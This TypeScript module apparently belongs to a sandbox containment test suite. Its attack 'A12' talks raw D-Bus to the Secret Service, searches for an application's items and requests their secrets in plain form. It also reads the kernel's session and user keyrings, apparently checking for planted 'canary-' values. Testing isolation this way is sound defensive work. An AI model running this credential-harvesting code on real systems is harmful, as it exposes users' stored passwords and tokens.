/** A12: stores of secrets that give to whoever belongs to the user: Secret Service over D-Bus, the kernel's keyrings. */
import { connect, type Socket } from 'node:net';
import { type Keyring, possess, readKey } from '../../../os/intrusion.ts';
import type { Attack } from '../attack.ts';
import { attempt, need } from '../attempt.ts';

/** Header fields of a D-Bus call: code, type, text. */
type Field = readonly [code: number, type: 's' | 'o' | 'g', text: string];

/** Little endian; every value aligned to its size, counted from where `before` bytes end. */
class Packer {
  #bytes = Buffer.alloc(0);

  align(to: number): this {
    const missing = (to - (this.#bytes.length % to)) % to;
    this.#bytes = Buffer.concat([this.#bytes, Buffer.alloc(missing)]);
    return this;
  }

  raw(bytes: Uint8Array): this {
    this.#bytes = Buffer.concat([this.#bytes, bytes]);
    return this;
  }

  u32(value: number): this {
    const word = Buffer.alloc(4);
    word.writeUInt32LE(value);
    return this.align(4).raw(word);
  }

  text(value: string): this {
    return this.u32(Buffer.byteLength(value)).raw(Buffer.from(`${value}\0`));
  }

  signature(value: string): this {
    return this.raw(Buffer.from([value.length])).raw(Buffer.from(`${value}\0`));
  }

  get bytes(): Buffer {
    return this.#bytes;
  }
}

function message(serial: number, fields: readonly Field[], body: Buffer): Buffer {
  const array = new Packer();
  for (const [code, type, text] of fields) {
    array
      .align(8)
      .raw(Buffer.from([code]))
      .signature(type);
    if (type === 'g') array.signature(text);
    else array.text(text);
  }
  return new Packer()
    .raw(Buffer.from([0x6c, 1, 0, 1]))
    .u32(body.length)
    .u32(serial)
    .u32(array.bytes.length)
    .raw(array.bytes)
    .align(8)
    .raw(body).bytes;
}

const service = 'org.freedesktop.Secret.Service';

function toService(serial: number, member: string, signature: string, body: Buffer): Buffer {
  return message(
    serial,
    [
      [1, 'o', '/org/freedesktop/secrets'],
      [2, 's', service],
      [3, 's', member],
      [6, 's', 'org.freedesktop.secrets'],
      ...(signature === '' ? [] : [[8, 'g', signature] as const]),
    ],
    body,
  );
}

/** What arrived when it matches, or when the bus has been silent for a while. */
function heard(socket: Socket, matches: RegExp): Promise<string> {
  return new Promise((resolve, reject) => {
    let text = '';
    const settle = (): void => {
      socket.off('data', collect);
      clearTimeout(timer);
      resolve(text);
    };
    const collect = (chunk: Buffer): void => {
      text += chunk.toString('latin1');
      if (matches.test(text)) settle();
    };
    const timer = setTimeout(settle, silentMs);
    socket.on('data', collect);
    socket.once('error', reject);
  });
}

const silentMs = 1000;
const item = /\/org\/freedesktop\/secrets\/collection\/\w+\/\w+/g;

/** Everything that the service gives unasked: opens a session, finds all items of ours, asks for their secrets. */
async function secretService(path: string, application: string): Promise<string> {
  const socket = connect(path);
  try {
    await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
    const uid = Buffer.from(String(process.getuid?.())).toString('hex');
    socket.write(`\0AUTH EXTERNAL ${uid}\r\n`);
    const authenticated = await heard(socket, /\r\n/);
    if (!authenticated.startsWith('OK'))
      throw Object.assign(new Error('the bus refused'), { code: 'EACCES' });
    socket.write('BEGIN\r\n');
    socket.write(
      message(
        1,
        [
          [1, 'o', '/org/freedesktop/DBus'],
          [2, 's', 'org.freedesktop.DBus'],
          [3, 's', 'Hello'],
          [6, 's', 'org.freedesktop.DBus'],
        ],
        Buffer.alloc(0),
      ),
    );
    const open = new Packer().text('plain').signature('s').text('').bytes;
    socket.write(toService(2, 'OpenSession', 'sv', open));
    const session = /\/org\/freedesktop\/secrets\/session\/\w+/.exec(
      await heard(socket, /\/org\/freedesktop\/secrets\/session\/\w+/),
    )?.[0];
    if (session === undefined) throw new Error('the Secret Service opened no session');
    const attribute = new Packer().text('service').text(application).bytes;
    const search = new Packer().u32(attribute.length).align(8).raw(attribute).bytes;
    socket.write(toService(3, 'SearchItems', 'a{ss}', search));
    const items = new Set((await heard(socket, item)).match(item) ?? []);
    if (items.size === 0) throw new Error('the Secret Service found no item');
    const paths = new Packer();
    for (const each of items) paths.text(each);
    // Padded before each but the first, as `text` does; none follows, so the length is that of the bytes.
    const body = new Packer().u32(paths.bytes.length).raw(paths.bytes).text(session).bytes;
    socket.write(toService(4, 'GetSecrets', 'aoo', body));
    return await heard(socket, /canary-/);
  } finally {
    socket.destroy();
  }
}

function readOwned(keyring: Keyring, description: string): Buffer {
  possess(keyring);
  return readKey('session', description);
}

export const stores: readonly Attack[] = [
  {
    number: 'A12',
    name: 'secret service',
    run: async ({ brief }) => [
      await attempt('Secret Service over D-Bus', () => {
        const [path = '', application = ''] = need(brief.bus).split('\n');
        return secretService(path, application);
      }),
    ],
  },
  {
    number: 'A12',
    name: 'keyrings',
    run: async ({ brief }) => [
      await attempt('kernel’s session keyring', () => readKey('session', need(brief.key))),
      await attempt('kernel’s user keyring', () => readOwned('user', need(brief.key))),
      await attempt('kernel’s user session keyring', () => readOwned('user session', need(brief.key))),
    ],
  },
];
